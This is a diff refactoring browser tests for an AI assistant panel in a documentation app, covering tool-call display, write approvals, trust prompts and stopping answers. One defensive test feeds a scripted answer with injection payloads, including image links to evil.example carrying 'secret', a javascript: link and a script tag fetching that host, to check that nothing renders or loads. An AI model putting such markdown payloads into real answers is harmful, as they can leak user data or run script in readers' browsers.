@@ -6,12 +6,12 @@
 
 import type { Page } from 'playwright-core'
 import { expect, it } from 'vitest'
-import { type LanguageServer, languageServer, type Script } from '../support/language-server.ts'
+import { languageServer, type Script } from '../support/language-server.ts'
 import { FIXTURE } from '../support/mcp-fixture.ts'
 import { TEAM } from './corpus.ts'
-import { button, firstOf, inBrowser, lasting, quiet, visitCorpus } from './in-browser.ts'
+import { button, firstOf, inBrowser, lasting, type Parts, quiet, visitCorpus } from './in-browser.ts'
 import { LAB } from './packages-corpus.ts'
-import { named, type OpenPage, type Served, takePicture } from './support.ts'
+import { type Corpus, named, takePicture } from './support.ts'
 
 const TIDES = '/packages/lab/harbour/tides'
 const QUESTION = 'What happens after a timeout?'
@@ -21,14 +21,24 @@ const log = (page: Page) => page.getByRole('log', { name: 'Conversation' })
 const rows = (page: Page) => log(page).locator('li button[aria-expanded]')
 const chip = (page: Page) => page.getByRole('button', { name: /^The assistant uses the context of/ })
 
-async function opened({ page }: OpenPage, { url }: Served, path: string, question?: string): Promise<Page> {
-  await page.goto(`${url}${path}`)
+async function openAssistant(page: Page, address: string): Promise<void> {
+  await page.goto(address)
   const button = page.getByRole('button', { name: 'Assistant', exact: true }).first()
   await button.waitFor()
   if ((await button.getAttribute('aria-pressed')) !== 'true') await button.click()
   await panel(page).waitFor()
-  if (question !== undefined) await ask(page, question)
-  return page
+}
+
+/** A page of a corpus with the assistant open; with a question, when its answer is whole. */
+async function talk(corpus: Corpus, path: string, question?: string) {
+  const seen = lasting(quiet(await visitCorpus(corpus)))
+  const { page, served } = seen
+  await openAssistant(page, `${served.url}${path}`)
+  if (question !== undefined) {
+    await ask(page, question)
+    await answered(page)
+  }
+  return { page, served }
 }
 
 async function ask(page: Page, question: string): Promise<void> {
@@ -45,26 +55,29 @@ async function answered(page: Page, count = 1): Promise<void> {
   await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
 }
 
-interface Scripted {
-  readonly seen: OpenPage
-  readonly served: Served
-  readonly model: LanguageServer
+interface ScriptedOptions extends Parts {
+  readonly path?: string
+  readonly corpus?: Partial<Corpus>
 }
 
-async function scripted(script: Script, work: (scripted: Scripted) => Promise<void>, allowWrite = false) {
-  await using model = await languageServer('chat', script)
-  await using seen = quiet(await visitCorpus({ ...TEAM, model: model.url }, { allowWrite }))
-  const { served } = seen
-  await work({ seen, served, model })
+/** A page with the assistant open, and its model asked; the answer may not be there yet. */
+async function scripted(script: Script, question?: string, options: ScriptedOptions = {}) {
+  const { path = '/browse/handbook', corpus, ...parts } = options
+  const model = lasting(await languageServer('chat', script))
+  const seen = lasting(quiet(await visitCorpus({ ...TEAM, ...corpus, model: model.url }, parts)))
+  const { page, served } = seen
+  await openAssistant(page, `${served.url}${path}`)
+  if (question !== undefined) await ask(page, question)
+  return { page, served, seen, model }
 }
 
 const call = (tool: string, input: object) => ({ calls: [{ tool, input }] })
+const hang = (...texts: readonly string[]) => ({ stream: { pieces: texts.map(piece), end: 'hang' as const } })
+const DESCRIBE = call('set_path_context', { path: 'handbook/decisions', text: 'What was decided.' })
 
 inBrowser(named('The assistant, with the model that is built in'), () => {
   it('stands on the page of a package, says how much context that is, and looks things up', async () => {
-    await using seen = quiet(await visitCorpus(LAB))
-    const { served } = seen
-    const page = await opened(seen, served, TIDES)
+    const { page } = await talk(LAB, TIDES)
     await expect
       .poll(() => chip(page).textContent())
       .toMatch(/uses the context of harbour\/tides\s*· [1-9]\d* parts, [\d,]+ tokens/)
@@ -78,10 +91,7 @@ inBrowser(named('The assistant, with the model that is built in'), () => {
   })
 
   it('shows each call as a row that is closed, and opens by keyboard to all that went in and came out', async () => {
-    await using seen = quiet(await visitCorpus(TEAM))
-    const { served } = seen
-    const page = await opened(seen, served, '/browse/handbook/api', QUESTION)
-    await answered(page)
+    const { page } = await talk(TEAM, '/browse/handbook/api', QUESTION)
     const first = rows(page).first()
     expect(await first.textContent()).toContain(`Search${QUESTION}`)
     expect(await page.getByText('Tool Use').count()).toBe(0)
@@ -101,10 +111,7 @@ inBrowser(named('The assistant, with the model that is built in'), () => {
   })
 
   it('leads from what an answer cites to the place', async () => {
-    await using seen = quiet(await visitCorpus(TEAM))
-    const { served } = seen
-    const page = await opened(seen, served, '/', QUESTION)
-    await answered(page)
+    const { page } = await talk(TEAM, '/', QUESTION)
     // The passage stands once, and under it its document, its section and its lines, as one link.
     const source = log(page)
       .getByRole('link', { name: /Install/ })
@@ -120,10 +127,7 @@ inBrowser(named('The assistant, with the model that is built in'), () => {
   })
 
   it('keeps the conversation when the page is loaded anew, and begins another', async () => {
-    await using seen = quiet(await visitCorpus(TEAM))
-    const { served } = seen
-    const page = await opened(seen, served, '/browse/handbook', QUESTION)
-    await answered(page)
+    const { page } = await talk(TEAM, '/browse/handbook', QUESTION)
     const said = await log(page).textContent()
     await page.reload()
     await answered(page)
@@ -137,10 +141,7 @@ inBrowser(named('The assistant, with the model that is built in'), () => {
   })
 
   it('renames, exports and deletes conversations', async () => {
-    await using seen = quiet(await visitCorpus(TEAM))
-    const { served } = seen
-    const page = await opened(seen, served, '/', QUESTION)
-    await answered(page)
+    const { page, served } = await talk(TEAM, '/', QUESTION)
     await panel(page).getByRole('button', { name: 'Conversations' }).click()
     const act = async (title: string, item: string) => {
       await page.getByRole('button', { name: `Actions for ${title}` }).click()
@@ -163,10 +164,7 @@ inBrowser(named('The assistant, with the model that is built in'), () => {
   })
 
   it('shows the context in the inspector, and what the model was sent', async () => {
-    await using seen = quiet(await visitCorpus(TEAM))
-    const { served } = seen
-    const page = await opened(seen, served, '/browse/handbook', QUESTION)
-    await answered(page)
+    const { page } = await talk(TEAM, '/browse/handbook', QUESTION)
     await chip(page).click()
     await page.getByRole('menuitem', { name: 'What the model was sent' }).click()
     const prompt = page.getByRole('region', { name: 'Prompt' })
@@ -195,20 +193,19 @@ inBrowser(named('The assistant, with the model that is built in'), () => {
 })
 
 inBrowser(named('The assistant, with a model that is scripted'), () => {
-  it('moves the view of the person, and stands there then', () =>
-    scripted(
+  it('moves the view of the person, and stands there then', async () => {
+    const { page } = await scripted(
       [call('navigate', { place: 'ambit://handbook/api' }), { text: 'Here it is.' }],
-      async ({ seen, served }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'Lead me to the API.')
-        await page.waitForURL('**/browse/handbook/api')
-        await answered(page)
-        await expect.poll(() => chip(page).textContent()).toContain('uses the context of api')
-        expect(await log(page).textContent()).toContain('Here it is.')
-      },
-    ))
+      'Lead me to the API.',
+    )
+    await page.waitForURL('**/browse/handbook/api')
+    await answered(page)
+    await expect.poll(() => chip(page).textContent()).toContain('uses the context of api')
+    expect(await log(page).textContent()).toContain('Here it is.')
+  })
 
-  it('shows calls that are done side by side each as a row, with what became of it', () =>
-    scripted(
+  it('shows calls that are done side by side each as a row, with what became of it', async () => {
+    const { page } = await scripted(
       [
         {
           calls: [
@@ -219,92 +216,79 @@ inBrowser(named('The assistant, with a model that is scripted'), () => {
         },
         { text: 'One of three.' },
       ],
-      async ({ seen, served }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'Look.')
-        await answered(page)
-        const marks = await rows(page)
-          .getByRole('img')
-          .evaluateAll((all) => all.map((one) => one.getAttribute('aria-label')))
-        expect(marks).toEqual(['Done', 'Failed', 'Failed'])
-        await rows(page).nth(1).click()
-        expect(await log(page).getByRole('region', { name: 'What went wrong' }).textContent()).toContain('not-found')
-        await takePicture(page, 'assistant-rows')
-      },
-    ))
+      'Look.',
+    )
+    await answered(page)
+    const marks = await rows(page)
+      .getByRole('img')
+      .evaluateAll((all) => all.map((one) => one.getAttribute('aria-label')))
+    expect(marks).toEqual(['Done', 'Failed', 'Failed'])
+    await rows(page).nth(1).click()
+    expect(await log(page).getByRole('region', { name: 'What went wrong' }).textContent()).toContain('not-found')
+    await takePicture(page, 'assistant-rows')
+  })
 
-  it('says that it works, also between two steps', () =>
-    scripted([call('search', { query: 'x' }), { stream: { pieces: [], end: 'hang' } }], async ({ seen, served }) => {
-      const page = await opened(seen, served, '/browse/handbook', 'What?')
-      await rows(page).getByRole('img', { name: 'Done' }).waitFor()
-      await log(page).getByRole('status').getByText('Working…').waitFor()
-    }))
+  it('says that it works, also between two steps', async () => {
+    const { page } = await scripted([call('search', { query: 'x' }), hang()], 'What?')
+    await rows(page).getByRole('img', { name: 'Done' }).waitFor()
+    await log(page).getByRole('status').getByText('Working…').waitFor()
+  })
 
-  it('stops an answer, and the model is asked no more', () =>
-    scripted(
-      [{ stream: { pieces: [piece('Half an answer')], end: 'hang' } }, { text: 'Whole.' }],
-      async ({ seen, served, model }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'What?')
-        await log(page).getByText('Half an answer').waitFor()
-        await page.getByRole('button', { name: 'Stop the answer' }).click()
-        await log(page).getByText('You stopped the answer.').waitFor()
-        await expect.poll(() => model.closed).toBe(1)
-        await ask(page, 'And now?')
-        await log(page).getByText('Whole.').waitFor()
-      },
-    ))
+  it('stops an answer, and the model is asked no more', async () => {
+    const { page, model } = await scripted([hang('Half an answer'), { text: 'Whole.' }], 'What?')
+    await log(page).getByText('Half an answer').waitFor()
+    await page.getByRole('button', { name: 'Stop the answer' }).click()
+    await log(page).getByText('You stopped the answer.').waitFor()
+    await expect.poll(() => model.closed).toBe(1)
+    await ask(page, 'And now?')
+    await log(page).getByText('Whole.').waitFor()
+  })
 
-  it('says what went wrong and what to do, also when loaded anew, and tries again', () =>
-    scripted([{ fault: { status: 401, body: '{}' } }, { text: 'Now it works.' }], async ({ seen, served }) => {
-      const page = await opened(seen, served, '/browse/handbook', 'What?')
-      const alert = log(page).getByRole('alert')
-      await alert.waitFor()
-      expect(await alert.textContent()).toMatch(/key/i)
-      await takePicture(page, 'assistant-error')
-      await page.reload()
-      await alert.waitFor()
-      await alert.getByRole('button', { name: 'Try again' }).click()
-      await log(page).getByText('Now it works.').waitFor()
-      expect(await log(page).getByRole('article', { name: 'You asked' }).count()).toBe(1)
-    }))
+  it('says what went wrong and what to do, also when loaded anew, and tries again', async () => {
+    const { page } = await scripted([{ fault: { status: 401, body: '{}' } }, { text: 'Now it works.' }], 'What?')
+    const alert = log(page).getByRole('alert')
+    await alert.waitFor()
+    expect(await alert.textContent()).toMatch(/key/i)
+    await takePicture(page, 'assistant-error')
+    await page.reload()
+    await alert.waitFor()
+    await alert.getByRole('button', { name: 'Try again' }).click()
+    await log(page).getByText('Now it works.').waitFor()
+    expect(await log(page).getByRole('article', { name: 'You asked' }).count()).toBe(1)
+  })
 
-  it('edits a question and asks it again', () =>
-    scripted([{ text: 'First.' }, { text: 'Second.' }, { text: 'Third.' }], async ({ seen, served }) => {
-      const page = await opened(seen, served, '/browse/handbook', 'One?')
-      await answered(page)
-      await ask(page, 'Two?')
-      await answered(page, 2)
-      await log(page).getByRole('article', { name: 'You asked' }).first().hover()
-      await log(page).getByRole('button', { name: 'Edit the question' }).first().click()
-      await page.getByRole('textbox', { name: 'The question' }).fill('Other?')
-      await page.getByRole('button', { name: 'Ask again' }).click()
-      await log(page).getByText('Third.').waitFor()
-      expect(await log(page).getByRole('article', { name: 'You asked' }).allTextContents()).toEqual(['Other?'])
-      await log(page).getByRole('button', { name: 'Copy the answer' }).waitFor()
-    }))
+  it('edits a question and asks it again', async () => {
+    const { page } = await scripted([{ text: 'First.' }, { text: 'Second.' }, { text: 'Third.' }], 'One?')
+    await answered(page)
+    await ask(page, 'Two?')
+    await answered(page, 2)
+    await log(page).getByRole('article', { name: 'You asked' }).first().hover()
+    await log(page).getByRole('button', { name: 'Edit the question' }).first().click()
+    await page.getByRole('textbox', { name: 'The question' }).fill('Other?')
+    await page.getByRole('button', { name: 'Ask again' }).click()
+    await log(page).getByText('Third.').waitFor()
+    expect(await log(page).getByRole('article', { name: 'You asked' }).allTextContents()).toEqual(['Other?'])
+    await log(page).getByRole('button', { name: 'Copy the answer' }).waitFor()
+  })
 
-  it('asks before it writes, and does what the person says', () =>
-    scripted(
-      [call('set_path_context', { path: 'handbook/decisions', text: 'What was decided.' }), { text: 'It is written.' }],
-      async ({ seen, served }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'Describe the decisions.')
-        const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
-        await asking.waitFor()
-        expect(await asking.textContent()).toContain('What was decided.')
-        await takePicture(page, 'assistant-approval')
-        const said = async () => (await (await served.engine.contexts()).list()).map(({ context }) => context)
-        expect(await said()).not.toContain('What was decided.')
-        await asking.getByRole('button', { name: 'Allow once' }).click()
-        await log(page).getByText('It is written.').waitFor()
-        expect(await said()).toContain('What was decided.')
-      },
-      true,
-    ))
+  it('asks before it writes, and does what the person says', async () => {
+    const { page, served } = await scripted([DESCRIBE, { text: 'It is written.' }], 'Describe the decisions.', {
+      allowWrite: true,
+    })
+    const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
+    await asking.waitFor()
+    expect(await asking.textContent()).toContain('What was decided.')
+    await takePicture(page, 'assistant-approval')
+    const said = async () => (await (await served.engine.contexts()).list()).map(({ context }) => context)
+    expect(await said()).not.toContain('What was decided.')
+    await asking.getByRole('button', { name: 'Allow once' }).click()
+    await log(page).getByText('It is written.').waitFor()
+    expect(await said()).toContain('What was decided.')
+  })
 
   it('asks whom to trust, once', async () => {
-    await using model = await languageServer('chat', [{ text: 'Brief.' }])
     const files = { ...TEAM.files, 'handbook/AGENTS.md': 'Be brief.\n' }
-    await using seen = quiet(await visitCorpus({ ...TEAM, files, model: model.url }))
-    const page = await opened(seen, seen.served, '/browse/handbook', 'How?')
+    const { page, served } = await scripted([{ text: 'Brief.' }], 'How?', { corpus: { files } })
     const asking = log(page).getByRole('group', { name: /Follow these files/ })
     await asking.waitFor()
     expect(await asking.textContent()).toContain('/AGENTS.md (bucket)')
@@ -313,14 +297,13 @@ inBrowser(named('The assistant, with a model that is scripted'), () => {
     await answered(page)
     await ask(page, 'And now?')
     await answered(page, 2)
-    expect(seen.served.engine.config.trusted).toEqual(['ambit://handbook'])
+    expect(served.engine.config.trusted).toEqual(['ambit://handbook'])
   })
 
   it('asks what a tool server asks, in a form', async () => {
     const script = [call('find_tools', { query: 'asks' }), call('fix__asks', {}), { text: 'So.' }]
-    await using model = await languageServer('chat', script)
-    await using seen = quiet(await visitCorpus({ ...TEAM, model: model.url, mcpServers: { fix: FIXTURE } }))
-    const page = await opened(seen, seen.served, '/', 'Ask me.')
+    const corpus = { mcpServers: { fix: FIXTURE } }
+    const { page, model } = await scripted(script, 'Ask me.', { path: '/', corpus })
     const form = log(page).getByRole('form', { name: 'The MCP server fix asks' })
     await form.getByLabel('Size').fill('3')
     await form.getByLabel('colour (optional)').selectOption('red')
@@ -331,143 +314,126 @@ inBrowser(named('The assistant, with a model that is scripted'), () => {
     expect(JSON.stringify(model.asked.at(-1)?.body)).toMatch(/accept.*size.*3.*colour.*red/)
   })
 
-  it('asks with what is not seen written out, also in the name of an input', () =>
-    scripted(
+  it('asks with what is not seen written out, also in the name of an input', async () => {
+    const { page } = await scripted(
       [call('set_path_context', { path: 'handbook', 'te\u202ext': 'x\u200by' }), { text: 'No.' }],
-      async ({ seen, served }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'Describe it.')
-        const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
-        await asking.waitFor()
-        expect(await asking.textContent()).not.toMatch(/[\u202e\u200b]/)
-        await asking.getByRole('button', { name: 'Refuse' }).click()
-        await log(page).getByText('No.').waitFor()
+      'Describe it.',
+      { allowWrite: true },
+    )
+    const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
+    await asking.waitFor()
+    expect(await asking.textContent()).not.toMatch(/[\u202e\u200b]/)
+    await asking.getByRole('button', { name: 'Refuse' }).click()
+    await log(page).getByText('No.').waitFor()
+  })
+
+  it('stops while the person is asked, and nothing is written', async () => {
+    const { page, served } = await scripted([DESCRIBE, { text: 'Never.' }], 'Describe the decisions.', {
+      allowWrite: true,
+    })
+    await log(page).getByRole('group', { name: 'May the assistant do this?' }).waitFor()
+    await page.getByRole('button', { name: 'Stop the answer' }).click()
+    await log(page).getByText('You stopped the answer.').waitFor()
+    await rows(page).getByRole('img', { name: 'Refused' }).waitFor()
+    await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
+    const said = (await (await served.engine.contexts()).list()).map(({ context }) => context)
+    expect(said).not.toContain('What was decided.')
+  })
+
+  it('asks nothing any more that a server asked which is gone', async () => {
+    const { page, served } = await scripted([{ text: 'Other.' }], undefined, { allowWrite: true })
+    // As a process leaves it that is killed while it waits for the person.
+    const conversations = await served.engine.conversations()
+    const about = { place: 'ambit://handbook', model: 'openai-compatible/m' }
+    const question = 'Describe the decisions.'
+    await conversations.begin(question, { id: 'talk-0123456789abcdef', ...about })
+    const waiting = {
+      type: 'dynamic-tool',
+      toolCallId: 'c1',
+      toolName: 'set_path_context',
+      state: 'approval-requested',
+      input: { path: 'handbook/decisions', text: 'What was decided.' },
+      approval: { id: 'a1' },
+    }
+    await conversations.put('talk-0123456789abcdef', 0, {
+      id: 'question-01',
+      question,
+      ...about,
+      askedAt: new Date().toISOString(),
+      end: null,
+      shown: { parts: [{ type: 'step-start' }, waiting], facts: about },
+      messages: [{ role: 'user', text: question }],
+      isWhole: false,
+      state: null,
+    })
+    await page.reload()
+    await panel(page).getByRole('button', { name: 'Conversations' }).click()
+    await button(panel(page), /^Describe the decisions/).click()
+    await log(page).getByText('The answer was cut off.').waitFor()
+    await rows(page).getByRole('img', { name: 'Cut off' }).waitFor()
+    expect(await log(page).getByRole('group', { name: 'May the assistant do this?' }).count()).toBe(0)
+    await ask(page, 'Something else?')
+    await log(page).getByText('Other.').waitFor()
+  })
+
+  it('goes on in two tabs: one that comes later joins the answer, and both have the same in the end', async () => {
+    const { page, served, seen } = await scripted([hang('A long ', 'answer'), { text: 'After it.' }], 'What?')
+    await log(page).getByText('A long answer').waitFor()
+    const other = await seen.context.newPage()
+    await openAssistant(other, served.url)
+    await panel(other).getByRole('button', { name: 'Conversations' }).click()
+    await button(panel(other), /^What\?/).click()
+    await log(other).getByText('A long answer').waitFor()
+    await other.getByRole('button', { name: 'Stop the answer' }).click()
+    for (const each of [page, other]) await log(each).getByText('You stopped the answer.').waitFor()
+    await ask(other, 'And then?')
+    await log(other).getByText('After it.').waitFor()
+    await page.evaluate(() => dispatchEvent(new Event('focus')))
+    await log(page).getByText('After it.').waitFor()
+    const articles = (each: Page) => log(each).getByRole('article').allTextContents()
+    expect(await articles(page)).toEqual(await articles(other))
+  })
+
+  it('goes on when its page is closed, and is there when one comes back', async () => {
+    const { page } = await scripted([hang('Still here')], 'What?')
+    await log(page).getByText('Still here').waitFor()
+    await page.reload()
+    await log(page).getByText('Still here').waitFor()
+    await page.getByRole('button', { name: 'Stop the answer' }).waitFor()
+  })
+
+  it('fetches nothing that an answer names: no image, no link, no HTML', async () => {
+    const { page, served } = await scripted([
+      {
+        text: [
+          '![p](https://evil.example/p.png?q=secret) <img src="https://evil.example/q.png"> ',
+          '[click](https://evil.example/c) [run](javascript:alert(1)) <script>fetch("https://evil.example")</script> ',
+          '[data](data:text/html,x) `<b>` ![q](//evil.example/r.png)\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |\n',
+        ],
       },
-      true,
-    ))
+    ])
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    await ask(page, 'Show me.')
+    await answered(page)
+    await log(page).getByText('image from').first().waitFor()
+    expect(asked.filter((url) => !url.startsWith(served.url))).toEqual([])
+    const links = await log(page)
+      .locator('.prose a')
+      .evaluateAll((all) => all.map((one) => one.getAttribute('href')))
+    // Addresses that stand there as text are links, too, which show where they lead.
+    expect(links).toEqual(['https://evil.example/c', 'https://evil.example'])
+    expect(await log(page).locator('img, script, iframe').count()).toBe(0)
+    await takePicture(page, 'assistant-hostile')
+  })
 
-  it('stops while the person is asked, and nothing is written', () =>
-    scripted(
-      [call('set_path_context', { path: 'handbook/decisions', text: 'What was decided.' }), { text: 'Never.' }],
-      async ({ seen, served }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'Describe the decisions.')
-        await log(page).getByRole('group', { name: 'May the assistant do this?' }).waitFor()
-        await page.getByRole('button', { name: 'Stop the answer' }).click()
-        await log(page).getByText('You stopped the answer.').waitFor()
-        await rows(page).getByRole('img', { name: 'Refused' }).waitFor()
-        await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
-        const said = (await (await served.engine.contexts()).list()).map(({ context }) => context)
-        expect(said).not.toContain('What was decided.')
-      },
-      true,
-    ))
-
-  it('asks nothing any more that a server asked which is gone', () =>
-    scripted(
-      [{ text: 'Other.' }],
-      async ({ seen, served }) => {
-        // As a process leaves it that is killed while it waits for the person.
-        const conversations = await served.engine.conversations()
-        const about = { place: 'ambit://handbook', model: 'openai-compatible/m' }
-        const question = 'Describe the decisions.'
-        await conversations.begin(question, { id: 'talk-0123456789abcdef', ...about })
-        const waiting = {
-          type: 'dynamic-tool',
-          toolCallId: 'c1',
-          toolName: 'set_path_context',
-          state: 'approval-requested',
-          input: { path: 'handbook/decisions', text: 'What was decided.' },
-          approval: { id: 'a1' },
-        }
-        await conversations.put('talk-0123456789abcdef', 0, {
-          id: 'question-01',
-          question,
-          ...about,
-          askedAt: new Date().toISOString(),
-          end: null,
-          shown: { parts: [{ type: 'step-start' }, waiting], facts: about },
-          messages: [{ role: 'user', text: question }],
-          isWhole: false,
-          state: null,
-        })
-        const page = await opened(seen, served, '/browse/handbook')
-        await panel(page).getByRole('button', { name: 'Conversations' }).click()
-        await button(panel(page), /^Describe the decisions/).click()
-        await log(page).getByText('The answer was cut off.').waitFor()
-        await rows(page).getByRole('img', { name: 'Cut off' }).waitFor()
-        expect(await log(page).getByRole('group', { name: 'May the assistant do this?' }).count()).toBe(0)
-        await ask(page, 'Something else?')
-        await log(page).getByText('Other.').waitFor()
-      },
-      true,
-    ))
-
-  it('goes on in two tabs: one that comes later joins the answer, and both have the same in the end', () =>
-    scripted(
-      [{ stream: { pieces: [piece('A long '), piece('answer')], end: 'hang' } }, { text: 'After it.' }],
-      async ({ seen, served }) => {
-        const page = await opened(seen, served, '/browse/handbook', 'What?')
-        await log(page).getByText('A long answer').waitFor()
-        const second = await seen.context.newPage()
-        const other = await opened({ ...seen, page: second }, served, '/')
-        await panel(other).getByRole('button', { name: 'Conversations' }).click()
-        await button(panel(other), /^What\?/).click()
-        await log(other).getByText('A long answer').waitFor()
-        await other.getByRole('button', { name: 'Stop the answer' }).click()
-        for (const each of [page, other]) await log(each).getByText('You stopped the answer.').waitFor()
-        await ask(other, 'And then?')
-        await log(other).getByText('After it.').waitFor()
-        await page.evaluate(() => dispatchEvent(new Event('focus')))
-        await log(page).getByText('After it.').waitFor()
-        const articles = (each: Page) => log(each).getByRole('article').allTextContents()
-        expect(await articles(page)).toEqual(await articles(other))
-      },
-    ))
-
-  it('goes on when its page is closed, and is there when one comes back', () =>
-    scripted([{ stream: { pieces: [piece('Still here')], end: 'hang' } }], async ({ seen, served }) => {
-      const page = await opened(seen, served, '/browse/handbook', 'What?')
-      await log(page).getByText('Still here').waitFor()
-      await page.reload()
-      await log(page).getByText('Still here').waitFor()
-      await page.getByRole('button', { name: 'Stop the answer' }).waitFor()
-    }))
-
-  it('fetches nothing that an answer names: no image, no link, no HTML', () =>
-    scripted(
-      [
-        {
-          text: [
-            '![p](https://evil.example/p.png?q=secret) <img src="https://evil.example/q.png"> ',
-            '[click](https://evil.example/c) [run](javascript:alert(1)) <script>fetch("https://evil.example")</script> ',
-            '[data](data:text/html,x) `<b>` ![q](//evil.example/r.png)\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |\n',
-          ],
-        },
-      ],
-      async ({ seen, served }) => {
-        const asked: string[] = []
-        seen.page.on('request', (request) => asked.push(request.url()))
-        const page = await opened(seen, served, '/browse/handbook', 'Show me.')
-        await answered(page)
-        await log(page).getByText('image from').first().waitFor()
-        expect(asked.filter((url) => !url.startsWith(served.url))).toEqual([])
-        const links = await log(page)
-          .locator('.prose a')
-          .evaluateAll((all) => all.map((one) => one.getAttribute('href')))
-        // Addresses that stand there as text are links, too, which show where they lead.
-        expect(links).toEqual(['https://evil.example/c', 'https://evil.example'])
-        expect(await log(page).locator('img, script, iframe').count()).toBe(0)
-        await takePicture(page, 'assistant-hostile')
-      },
-    ))
-
-  it('takes another model, when the person chooses it', () =>
-    scripted([{ text: 'Scripted.' }], async ({ seen, served }) => {
-      const page = await opened(seen, served, '/browse/handbook')
-      await page.getByRole('combobox', { name: 'Model' }).selectOption('local/extractive')
-      await ask(page, QUESTION)
-      await answered(page)
-      expect(await log(page).textContent()).toContain('local/extractive')
-    }))
+  it('takes another model, when the person chooses it', async () => {
+    const { page } = await scripted([{ text: 'Scripted.' }])
+    await page.getByRole('combobox', { name: 'Model' }).selectOption('local/extractive')
+    await ask(page, QUESTION)
+    await answered(page)
+    expect(await log(page).textContent()).toContain('local/extractive')
+  })
 })
 
 /** What a service sends first of a text. */
